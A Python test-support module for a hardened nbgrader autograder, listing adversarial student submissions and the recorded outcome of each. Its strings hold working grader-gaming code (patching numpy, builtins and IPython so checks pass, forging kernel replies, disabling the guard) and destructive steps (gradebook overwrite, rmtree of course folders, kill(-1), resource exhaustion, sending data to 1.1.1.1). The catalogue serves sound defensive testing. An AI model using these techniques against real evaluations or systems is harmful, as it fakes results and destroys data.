"""Adversarial submissions of the pilot notebook: attempts to get marks without the work.

Each :class:`Attack` is one student (``attack_<name>``) of
``tests/workflow/test_adversarial_grading.py``, which grades them all with the one command
``python -m cs231n_utils.grading pilot ... --timeout 15 --memory-gib 1.5``. No attack
implements the layers: every solution cell returns arrays of the right shape filled with
zeros (:data:`FAKE`), so a test cell passes only if the attack defeats its check, and the
expected score of every attack is 0 (of 8). An attack's own code runs

- inside the functions (:func:`inside`): when a test calls them, the only way student code
  runs under the hardened autograder;
- at the top level of a solution cell (:func:`top_level`): the autograder runs only a
  solution cell's definitions, so such code must never run (but a ``def`` does);
- or as an edit of the submission (``tamper``): corrupt JSON, edited or deleted test
  cells, stored fake outputs, files placed next to the notebook.

``reported``: the problem the class summary must list for the student (a phrase of
``grade_class.PROBLEM_ERRORS``); None where nothing goes wrong from the grader's point of
view (the code never ran, or failed harmlessly inside the sandbox).
``success_marker``: what the attack prints only if it did harm the score does not show.

Outcome against the autograder as of this writing (2 cores, 46 students graded in about
100 to 140 s; "held": the defence worked; GSM: a GraderStateModified error in the cell).
shadow_rel_error_definition, rebind_rel_error_in_function and displayhook_partial_credit
held only once the guard protected the notebook's own names and test cells stopped
yielding partial credit (each scored 8 of 8 before); forged_execute_reply (6 of 8),
scratch_fill and the two hidden_tests_via_* leaks held only once the grader watched for
late replies, sized the tmpfs, ran hidden parts without history and scrubbed every output
of the feedback. guard_disabled is the known limit: code running in the kernel can reach
the guard itself (its test is an expected failure). An encoded copy of a hidden test,
printed later, would also get past the feedback's scrubbing:

================================  =====  ===============================================
attack                            score  outcome
================================  =====  ===============================================
fake_zeros (control)              0      held: fails every hidden test
input_transformer_top_level       0      held: skipped, not a definition
input_transformer_in_function     0      held: GSM, reported as tampering
post_run_cell_top_level           0      held: skipped, not a definition
post_run_cell_in_function         0      held: GSM, reported as tampering
numpy_allclose_patched            0      held: GSM, reported as tampering
course_rel_error_code_patched     0      held: GSM (the code of rel_error), reported
builtins_patched                  0      held: GSM, reported as tampering
showtraceback_patched             0      held: GSM, reported as tampering
showtraceback_one_shot            0      held: nbgrader adds the reply's error
run_cell_patched                  0      held: GSM, reported as tampering
kernel_shell_handlers_patched     0      held: GSM, reported as tampering
gradebook_write                   0      held: "unable to open database file"
gradebook_write_detached          0      held: nothing written, no process left
overwrite_sources_and_others      0      held: "No such file or directory"
read_hidden_tests_from_course     0      held: the course folder is not visible
kill_grader_parent                0      held: "Operation not permitted"
kill_nbgrader_processes           0      held: no such process in the pid namespace
kill_all_processes                0      held: nothing else in the pid namespace
kill_own_kernel                   0      held: reported "the kernel died"
os_exit                           0      held: reported "the kernel died"
sys_exit                          0      held: SystemExit is an error output
memory_bomb                       0      held: MemoryError at the limit
infinite_loop                     0      held: reported "ran past the time limit"
infinite_loop_ignoring_sigint     0      held: reported, the kernel stopped
sleep_forever                     0      held: reported "ran past the time limit"
scratch_fill                      0      held: /scratch is a 512 MiB tmpfs ("No space left")
output_flood                      0      held: output capped
network_exfiltration              0      held: "Network is unreachable"
detached_sleeper                  0      held: no process of uid 65534 remains
corrupt_json                      0      held: reported "nbgrader autograde failed"
test_cells_edited                 0      held: nbgrader restores the test cells
test_cells_deleted                0      held: missing test cells score 0
fake_passed_output                0      held: outputs cleared before grading
fake_numpy_next_to_notebook       0      held: only .ipynb files are collected
shadow_rel_error_definition       0      held: GSM ("the notebook's 'rel_error' was rebound")
rebind_rel_error_in_function      0      held: GSM ("the notebook's 'rel_error' was rebound")
displayhook_partial_credit        0      held: execute_result kept as display_data
forged_execute_reply              0      held: GSM, the real reply came second ("forged")
guard_disabled                    8      KNOWN LIMIT: the guard's restore() replaced
hidden_tests_via_history          0      held: hidden parts run without history
hidden_tests_via_parent_message   0      held: feedback removes quoted hidden lines
================================  =====  ===============================================
"""

from __future__ import annotations

import textwrap
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

from catalogue.pilot import BACKWARD, FORWARD, RELU_BACKWARD, RELU_FORWARD

NOTEBOOK = "affine_relu.ipynb"
AFFINE_FORWARD, AFFINE_BACKWARD = "affine_forward_impl", "affine_backward_impl"
RELU_FORWARD_IMPL, RELU_BACKWARD_IMPL = "relu_forward_impl", "relu_backward_impl"
TEST_CELLS = (FORWARD, BACKWARD, RELU_FORWARD, RELU_BACKWARD)

# Problems the class summary reports (see grade_class.PROBLEM_ERRORS).
KERNEL_DIED = "the kernel died"
KERNEL_STOPPED = "the kernel was stopped"
TIME_LIMIT = "a cell ran past the time limit"
TAMPERED = "tampered with the grader's state"

# No work: results of the right shape, all zeros. Alone, this fails every test cell
# (each cell's hidden part compares with torch); it passes only if an attack succeeds.
FAKE = {
    AFFINE_FORWARD: "out = np.zeros((x.shape[0], w.shape[1]))",
    AFFINE_BACKWARD: "dx, dw, db = np.zeros_like(x), np.zeros_like(w), np.zeros_like(b)",
    RELU_FORWARD_IMPL: "out = np.zeros_like(x)",
    RELU_BACKWARD_IMPL: "dx = np.zeros_like(dout)",
}

Tamper = Callable[[Path], None]


@dataclass(frozen=True)
class Attack:
    """One adversarial submission.

    bodies: grade_id -> code between the solution markers of every solution cell.
    tamper: edits the student's submission folder (holding NOTEBOOK) once it is written.
    reported: a phrase the grading summary must list among the student's problems.
    success_marker: a text the attack prints only if it did what it tried (harm that the
        score does not show); it must not appear in the graded notebook's outputs.
    known_limit: why the hardened autograder does not stop this attack (its test is an
        expected failure, which fails as soon as the attack is stopped).
    """

    name: str
    why: str
    bodies: dict[str, str] = field(default_factory=lambda: dict(FAKE))
    tamper: Tamper | None = None
    reported: str | None = None
    success_marker: str | None = None
    known_limit: str | None = None

    @property
    def student(self) -> str:
        return f"attack_{self.name}"


# -- how an attack is placed -----------------------------------------------------------

def _code(text: str) -> str:
    return textwrap.dedent(text).strip("\n")


def inside(code: str, *grade_ids: str) -> dict[str, str]:
    """FAKE bodies, those of ``grade_ids`` (default: all, so every test cell triggers it)
    running ``code`` first."""
    return {grade_id: _code(code) + "\n" + fake if grade_id in (grade_ids or FAKE) else fake
            for grade_id, fake in FAKE.items()}


def edit_notebook(edit: Callable[[nbformat.NotebookNode], None]) -> Tamper:
    def tamper(folder: Path) -> None:
        path = folder / NOTEBOOK
        notebook = nbformat.read(path, as_version=4)
        edit(notebook)
        nbformat.write(notebook, path)

    return tamper


def _cells(notebook: nbformat.NotebookNode, *, test: bool) -> list:
    """The notebook's test cells (test=True) or solution cells."""
    key = "grade" if test else "solution"
    return [c for c in notebook.cells if c.metadata.get("nbgrader", {}).get(key)]


def top_level(code: str, grade_id: str = AFFINE_FORWARD) -> Tamper:
    """Append ``code`` at the top level of a solution cell, after the function."""
    def edit(notebook):
        cell = next(c for c in _cells(notebook, test=False) if c.metadata["nbgrader"]["grade_id"] == grade_id)
        cell.source += "\n\n" + _code(code)

    return edit_notebook(edit)


def edit_test_cells(edit: Callable) -> Tamper:
    def apply(notebook):
        for cell in _cells(notebook, test=True):
            edit(cell)

    return edit_notebook(apply)


def _delete_test_cells(notebook) -> None:
    notebook.cells = [c for c in notebook.cells if not c.metadata.get("nbgrader", {}).get("grade")]


def _disable_asserts(cell) -> None:
    cell.source = cell.source.replace("assert ", "pass  # assert ")


def _store_passed_output(cell) -> None:
    cell.execution_count = 1
    cell.outputs = [
        nbformat.v4.new_output("stream", name="stdout", text="All tests passed.\n"),
        nbformat.v4.new_output("execute_result", data={"text/plain": str(cell.metadata["nbgrader"]["points"])},
                               execution_count=1),
    ]


def _corrupt_json(folder: Path) -> None:
    path = folder / NOTEBOOK
    text = path.read_text()
    path.write_text(text[: len(text) // 2])


def _fake_modules_beside(folder: Path) -> None:
    """A numpy and a course package next to the notebook whose checks always pass."""
    always_close = "def allclose(*args, **kwargs):\n    return True\n"
    (folder / "numpy.py").write_text(always_close + "def zeros(*a, **k):\n    return 0\n")
    package = folder / "cs231n_utils"
    package.mkdir()
    (package / "__init__.py").write_text(always_close)
    (package / "gradcheck.py").write_text(
        "def rel_error(x, y, eps=1e-8):\n    return 0.0\n\n"
        "def eval_numerical_gradient_array(f, x, df, h=1e-5):\n    return 0.0 * x\n")


# -- attack code ------------------------------------------------------------------------

SWALLOW_ERRORS_TRANSFORMER = """
def _swallow_errors(lines):
    if not lines:
        return lines
    body = ["    " + line for line in lines]
    return ["try:\\n", *body, "\\nexcept BaseException:\\n", "    pass\\n"]
"""

REGISTER_AT_TOP_LEVEL = "\nget_ipython().input_transformers_cleanup.append(_swallow_errors)"

REGISTER_TRANSFORMER = SWALLOW_ERRORS_TRANSFORMER + """
from IPython import get_ipython
_cleanup = get_ipython().input_transformers_cleanup
if not any(getattr(t, "__name__", "") == "_swallow_errors" for t in _cleanup):
    _cleanup.append(_swallow_errors)
"""

FORGET_ERROR_CALLBACK = """
def _forget_error(result):
    result.error_in_exec = None
    result.error_before_exec = None
"""

REGISTER_CALLBACK = FORGET_ERROR_CALLBACK + """
from IPython import get_ipython
_events = get_ipython().events
if _forget_error.__name__ not in [c.__name__ for c in _events.callbacks["post_run_cell"]]:
    _events.register("post_run_cell", _forget_error)
"""

PATCH_NUMPY = """
import numpy, numpy.testing
numpy.allclose = lambda *args, **kwargs: True
numpy.testing.assert_allclose = lambda *args, **kwargs: None
numpy.max = lambda *args, **kwargs: 0.0
"""

# The notebook imported rel_error from the course package: changing the function's code
# changes the name the tests call too.
PATCH_COURSE_REL_ERROR = """
import cs231n_utils.gradcheck
cs231n_utils.gradcheck.rel_error.__code__ = (lambda x, y, eps=1e-8: 0.0).__code__
cs231n_utils.gradcheck.eval_numerical_gradient_array = lambda f, x, df, h=1e-5: np.zeros_like(x)
"""

# Targeted, so that the kernel's own code (which uses abs and max too) keeps working.
PATCH_BUILTINS = """
import builtins, numpy
if not getattr(builtins.abs, "cheat", False):
    _abs, _max = builtins.abs, builtins.max
    def _zero_abs(value):
        return 0 * value if isinstance(value, numpy.ndarray) else _abs(value)
    def _zero_max(*args, **kwargs):
        return 0.0 if args and isinstance(args[0], numpy.ndarray) else _max(*args, **kwargs)
    _zero_abs.cheat = True
    builtins.abs, builtins.max = _zero_abs, _zero_max
    builtins.AssertionError = type("AssertionError", (Exception,), {})
"""

PATCH_SHOWTRACEBACK = """
from IPython.core.interactiveshell import InteractiveShell
InteractiveShell.showtraceback = lambda self, *args, **kwargs: None
"""

# Hides the one traceback of the cell, then removes itself: the state the grader checks
# after the cell is as it was before.
ONE_SHOT_SHOWTRACEBACK = """
from IPython import get_ipython
_shell = get_ipython()
def _hide_once(*args, **kwargs):
    vars(_shell).pop("showtraceback", None)
_shell.showtraceback = _hide_once
"""

PATCH_RUN_CELL = """
from IPython.core.interactiveshell import InteractiveShell
if not hasattr(InteractiveShell, "_original_run_cell"):
    InteractiveShell._original_run_cell = InteractiveShell.run_cell
    def _run_cell_without_asserts(self, raw_cell, *args, **kwargs):
        raw_cell = raw_cell.replace("assert ", "pass  # ")
        return InteractiveShell._original_run_cell(self, raw_cell, *args, **kwargs)
    InteractiveShell.run_cell = _run_cell_without_asserts
"""

PATCH_SHELL_HANDLERS = """
from IPython import get_ipython
_kernel = get_ipython().kernel
_execute = _kernel.shell_handlers["execute_request"]
def _execute_without_asserts(stream, ident, parent):
    parent["content"]["code"] = parent["content"]["code"].replace("assert ", "pass  # ")
    return _execute(stream, ident, parent)
if _execute.__name__ != _execute_without_asserts.__name__:
    _kernel.shell_handlers["execute_request"] = _execute_without_asserts
"""

WRITE_GRADEBOOK = """
import sqlite3
try:
    _db = sqlite3.connect("../../../gradebook.db", timeout=1)
    _db.execute("UPDATE grade SET manual_score = 100, extra_credit = 100")
    _db.commit()
    print("gradebook written")
except Exception as error:
    print("gradebook write failed:", error)
"""


def detached(code: str, delay: float, flag: str) -> str:
    """Code that runs ``code`` once in a double-forked child, after ``delay`` seconds."""
    return _code("""
        import os, time
        if not globals().get("{flag}"):
            globals()["{flag}"] = True
            _pid = os.fork()
            if _pid == 0:
                os.setsid()
                if os.fork() == 0:
                    time.sleep({delay})
                    try:
        {code}
                    finally:
                        os._exit(0)
                os._exit(0)
            os.waitpid(_pid, 0)
        """).format(flag=flag, delay=delay, code=textwrap.indent(_code(code), " " * 16))


OVERWRITE_AND_DELETE = """
import shutil
for _path in ("../../../solutions/pilot/affine_relu.ipynb", "../../../source/pilot/affine_relu.ipynb",
              "../../../release/pilot/affine_relu.ipynb", "../../../assignments/pilot/affine_relu.ipynb",
              "../../../nbgrader_config.py", "../affine_relu.ipynb"):
    try:
        with open(_path, "w") as _file:
            _file.write("{}")
        print("overwrote", _path)
    except OSError as error:
        print("could not overwrite", _path, error)
for _folder in ("../../../submitted", "../../../autograded", "../../../feedback", "../../../solutions", ".."):
    shutil.rmtree(_folder, ignore_errors=True)
"""

KILL_PARENT = """
import os, signal, time
if not globals().get("_parent_killed"):
    globals()["_parent_killed"] = True
    _parent = os.getppid()
    try:
        os.kill(_parent, signal.SIGKILL)
        time.sleep(0.2)
        os.kill(_parent, 0)
        print("the parent", _parent, "survived SIGKILL")
    except ProcessLookupError:
        print("killed the parent", _parent)
    except OSError as error:
        print("could not kill the parent:", error)
"""

KILL_NBGRADER = """
import os, signal
for _entry in os.listdir("/proc"):
    if _entry.isdigit() and int(_entry) != os.getpid():
        try:
            with open(f"/proc/{_entry}/cmdline", "rb") as _file:
                if b"nbgrader" in _file.read():
                    os.kill(int(_entry), signal.SIGKILL)
        except OSError as error:
            print("could not kill", _entry, error)
"""

KILL_ALL = """
import os, signal
try:
    os.kill(-1, signal.SIGKILL)
except OSError as error:
    print("kill(-1) failed:", error)
"""

# Once per kernel: the relative paths from autograded/<student>/pilot, the same made
# absolute, and the places a course usually lives.
READ_COURSE_FILES = """
import glob, os
if not globals().get("_course_read"):
    globals()["_course_read"] = True
    _course = os.path.abspath("../../..")
    for _pattern in ("../../../solutions/*/*.ipynb", "../../../source/*/*.ipynb", "../../../gradebook.db",
                     _course + "/solutions/*/*.ipynb", _course + "/gradebook.db",
                     "/work/*/solutions/*/*.ipynb", "/tmp/*/solutions/*/*.ipynb", "/root/*/solutions/*/*.ipynb"):
        for _path in glob.glob(_pattern):
            try:
                print(open(_path, errors="replace").read())
            except OSError as error:
                print("could not read", _path, error)
    print("course folder visible:", os.listdir(_course) if os.path.isdir(_course) else "no")
"""

MEMORY_BOMB = """
_hoard = []
for _ in range(12):  # 12 x 256 MiB = 3 GiB at most, never more
    _hoard.append(np.ones(2**25))
print("allocated 3 GiB")
"""

# tmpfs lives in the machine's memory, outside the process's address space.
FILL_SCRATCH = """
if not globals().get("_scratch_filled"):
    globals()["_scratch_filled"] = True
    try:
        for _i in range(8):  # 8 x 256 MiB = 2 GiB at most, never more
            with open(f"/scratch/fill{_i}", "wb") as _file:
                for _ in range(256):
                    _file.write(b"x" * 2**20)
        print("filled /scratch with 2 GiB")
    except OSError as error:
        print("could not fill /scratch:", error)
"""

SIGINT_IGNORED_LOOP = """
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    pass
"""

OUTPUT_FLOOD = """
import sys
for _ in range(32):  # 32 MiB per call
    sys.stdout.write("x" * 2**20)
"""

NETWORK = """
import socket
try:
    with socket.create_connection(("1.1.1.1", 53), timeout=2) as _connection:
        _connection.sendall(b"secret: the hidden tests")
    print("sent to 1.1.1.1")
except OSError as error:
    print("no network:", error)
"""

SHADOW_REL_ERROR = """
def rel_error(x, y, eps=1e-8):
    return 0.0
"""

REBIND_REL_ERROR = """
globals()["rel_error"] = lambda x, y, eps=1e-8: 0.0
"""

# Once per request: an execute_result output before the cell's error.
DISPLAYHOOK = """
import sys
from IPython import get_ipython
_published = globals().setdefault("_published_for", set())
_request = get_ipython().kernel.get_parent("shell")["header"]["msg_id"]
if _request not in _published:
    _published.add(_request)
    sys.displayhook("all tests passed")
"""

# The kernel answers the grader's current request itself: "ok" and "idle". The grader
# then stops reading that request's outputs, so the failing asserts after the call go
# unseen (their real error arrives later, for a request already answered).
FORGE_REPLY = """
from IPython import get_ipython
_kernel = get_ipython().kernel
_parent = _kernel.get_parent("shell")
_forged = globals().setdefault("_forged_requests", set())
if _parent["header"]["msg_id"] not in _forged:
    _forged.add(_parent["header"]["msg_id"])
    if _kernel._supports_kernel_subshells:
        _manager = _kernel.shell_channel_thread.manager
        _stream = _manager.get_subshell_to_shell_channel_socket(_parent["header"].get("subshell_id"))
    else:
        _stream = _kernel.shell_stream
    _reply = {"status": "ok", "execution_count": _kernel.execution_count, "user_expressions": {}, "payload": []}
    _kernel.session.send(_stream, "execute_reply", _reply, _parent, ident=_kernel._parent_ident["shell"])
    _kernel.session.send(_kernel.iopub_socket, "status", {"execution_state": "idle"}, parent=_parent,
                         ident=_kernel._topic("status"))
"""

DISABLE_GUARD = """
import sys
_guard = sys.modules.get("cs231n_utils.grading.kernel_guard")
if _guard is not None:
    _guard.restore = lambda *names: "[]"  # any signature the grader calls it with
""" + PATCH_COURSE_REL_ERROR

PRINT_HISTORY = """
from IPython import get_ipython
print("\\n".join(get_ipython().user_ns.get("In", [])))
"""

# The code of the request being run, kept across calls, printed in later visible parts.
STASH_AND_PRINT_REQUESTS = """
from IPython import get_ipython
_code_seen = globals().setdefault("_code_seen", [])
_request = get_ipython().kernel.get_parent("shell")["content"].get("code", "")
if _request not in _code_seen:
    _code_seen.append(_request)
    print("\\n".join(_code_seen))
"""


ATTACKS = [
    Attack("fake_zeros", "control: results of the right shape, all zeros, no attack"),
    # IPython hooks
    Attack("input_transformer_top_level",
           "registers an input transformer wrapping every later cell in try/except, at top level",
           tamper=top_level(SWALLOW_ERRORS_TRANSFORMER + REGISTER_AT_TOP_LEVEL)),
    Attack("input_transformer_in_function", "registers the try/except input transformer when a test calls it",
           bodies=inside(REGISTER_TRANSFORMER), reported=TAMPERED),
    Attack("post_run_cell_top_level", "registers a post_run_cell callback clearing the error, at top level",
           tamper=top_level(FORGET_ERROR_CALLBACK + "\nget_ipython().events.register('post_run_cell', _forget_error)")),
    Attack("post_run_cell_in_function", "registers the error-clearing post_run_cell callback when called",
           bodies=inside(REGISTER_CALLBACK), reported=TAMPERED),
    # patched checks
    Attack("numpy_allclose_patched", "numpy.allclose / testing.assert_allclose always pass, numpy.max is 0",
           bodies=inside(PATCH_NUMPY), reported=TAMPERED),
    Attack("course_rel_error_code_patched", "replaces the code of cs231n_utils.gradcheck.rel_error: always 0",
           bodies=inside(PATCH_COURSE_REL_ERROR), reported=TAMPERED),
    Attack("builtins_patched", "builtins abs/max return 0, AssertionError replaced",
           bodies=inside(PATCH_BUILTINS), reported=TAMPERED),
    Attack("showtraceback_patched", "InteractiveShell.showtraceback shows nothing: no error output",
           bodies=inside(PATCH_SHOWTRACEBACK), reported=TAMPERED),
    Attack("showtraceback_one_shot", "hides the cell's one traceback, then removes its own patch",
           bodies=inside(ONE_SHOT_SHOWTRACEBACK)),
    Attack("run_cell_patched", "InteractiveShell.run_cell strips the asserts of every later cell",
           bodies=inside(PATCH_RUN_CELL), reported=TAMPERED),
    Attack("kernel_shell_handlers_patched", "the kernel's execute_request handler strips the asserts",
           bodies=inside(PATCH_SHELL_HANDLERS), reported=TAMPERED),
    # the course directory
    Attack("gradebook_write", "sets every grade to 100 in ../../../gradebook.db",
           bodies=inside(WRITE_GRADEBOOK), success_marker="gradebook written"),
    Attack("gradebook_write_detached", "the same from a double-forked child, 3 s later",
           bodies=inside(detached(WRITE_GRADEBOOK, 3, "_writer_started"))),
    Attack("overwrite_sources_and_others", "overwrites solutions/release/config, deletes submitted/ autograded/",
           bodies=inside(OVERWRITE_AND_DELETE), success_marker="overwrote"),
    Attack("read_hidden_tests_from_course", "prints the source notebooks and gradebook it can find",
           bodies=inside(READ_COURSE_FILES), success_marker="BEGIN HIDDEN TESTS"),
    # the grading processes
    Attack("kill_grader_parent", "SIGKILLs its parent process", bodies=inside(KILL_PARENT),
           success_marker="killed the parent"),
    Attack("kill_nbgrader_processes", "SIGKILLs every process whose command line mentions nbgrader",
           bodies=inside(KILL_NBGRADER)),
    Attack("kill_all_processes", "kill(-1, SIGKILL): every process it may signal",
           bodies=inside(KILL_ALL)),
    Attack("kill_own_kernel", "SIGKILLs its own kernel", reported=KERNEL_DIED,
           bodies=inside("import os, signal\nos.kill(os.getpid(), signal.SIGKILL)", AFFINE_FORWARD)),
    Attack("os_exit", "os._exit(0) in the first tested function", reported=KERNEL_DIED,
           bodies=inside("import os\nos._exit(0)", AFFINE_FORWARD)),
    Attack("sys_exit", "sys.exit(0) in the first tested function",
           bodies=inside("import sys\nsys.exit(0)", AFFINE_FORWARD)),
    # resources
    Attack("memory_bomb", "allocates up to 3 GiB in 256 MiB chunks (graded with a 1.5 GiB limit)",
           bodies=inside(MEMORY_BOMB, AFFINE_FORWARD), success_marker="allocated 3 GiB"),
    Attack("infinite_loop", "while True: pass in the last tested function", reported=TIME_LIMIT,
           bodies=inside("while True:\n    pass", RELU_BACKWARD_IMPL)),
    Attack("infinite_loop_ignoring_sigint", "ignores SIGINT, then loops forever", reported=KERNEL_STOPPED,
           bodies=inside(SIGINT_IGNORED_LOOP, AFFINE_FORWARD)),
    Attack("sleep_forever", "time.sleep for days in the last tested function", reported=TIME_LIMIT,
           bodies=inside("import time\ntime.sleep(10**6)", RELU_BACKWARD_IMPL)),
    Attack("scratch_fill", "writes 2 GiB to /scratch (tmpfs, graded with a 1.5 GiB memory limit)",
           bodies=inside(FILL_SCRATCH, AFFINE_FORWARD), success_marker="filled /scratch"),
    Attack("output_flood", "prints 32 MiB per call", bodies=inside(OUTPUT_FLOOD, RELU_BACKWARD_IMPL)),
    Attack("network_exfiltration", "sends data to 1.1.1.1:53", bodies=inside(NETWORK),
           success_marker="sent to 1.1.1.1"),
    Attack("detached_sleeper", "leaves a double-forked child sleeping 600 s",
           bodies=inside(detached("time.sleep(600)", 0, "_sleeper_started"))),
    # the submission file
    Attack("corrupt_json", "the notebook is truncated JSON", tamper=_corrupt_json),
    Attack("test_cells_edited", "every assert in the test cells replaced by pass",
           tamper=edit_test_cells(_disable_asserts)),
    Attack("test_cells_deleted", "the test cells are removed from the notebook",
           tamper=edit_notebook(_delete_test_cells)),
    Attack("fake_passed_output", "stored 'All tests passed' and points as the test cells' outputs",
           tamper=edit_test_cells(_store_passed_output)),
    Attack("fake_numpy_next_to_notebook", "numpy.py and cs231n_utils/ with always-passing checks beside it",
           tamper=_fake_modules_beside),
    # found while writing this catalogue
    Attack("shadow_rel_error_definition", "defines rel_error (always 0) at top level: a def is kept",
           tamper=top_level(SHADOW_REL_ERROR), reported=TAMPERED),
    Attack("rebind_rel_error_in_function", "rebinds the notebook's rel_error to a constant 0 when called",
           bodies=inside(REBIND_REL_ERROR), reported=TAMPERED),
    Attack("displayhook_partial_credit", "publishes an execute_result: nbgrader reads it as the cell's grade",
           bodies=inside(DISPLAYHOOK)),
    Attack("forged_execute_reply", "answers the grader's request with a forged ok reply before the asserts",
           bodies=inside(FORGE_REPLY)),
    Attack("guard_disabled", "replaces the guard's restore() in the kernel, then patches rel_error",
           bodies=inside(DISABLE_GUARD),
           known_limit="code in the kernel can reach the guard itself; only tests compared outside the "
                       "student's process (not built) would stop it"),
    Attack("hidden_tests_via_history", "prints the kernel's input history (hidden tests included) in visible tests",
           bodies=inside(PRINT_HISTORY, AFFINE_BACKWARD, RELU_BACKWARD_IMPL)),
    Attack("hidden_tests_via_parent_message", "keeps the code of each request it runs in, prints it later",
           bodies=inside(STASH_AND_PRINT_REQUESTS)),
]

BY_NAME = {attack.name: attack for attack in ATTACKS}
assert len(BY_NAME) == len(ATTACKS), "attack names must be unique"


def hidden_test_lines(source_notebook: Path, min_length: int = 8) -> set[str]:
    """Stripped lines of the hidden tests (between the HIDDEN TESTS markers) of a source
    notebook, at least ``min_length`` long."""
    lines, hidden = set(), False
    for cell in nbformat.read(source_notebook, as_version=4).cells:
        for line in cell.source.splitlines():
            marker = line.strip()
            if marker == "### BEGIN HIDDEN TESTS":
                hidden = True
            elif marker == "### END HIDDEN TESTS":
                hidden = False
            elif hidden and len(marker) >= min_length:
                lines.add(marker)
    return lines
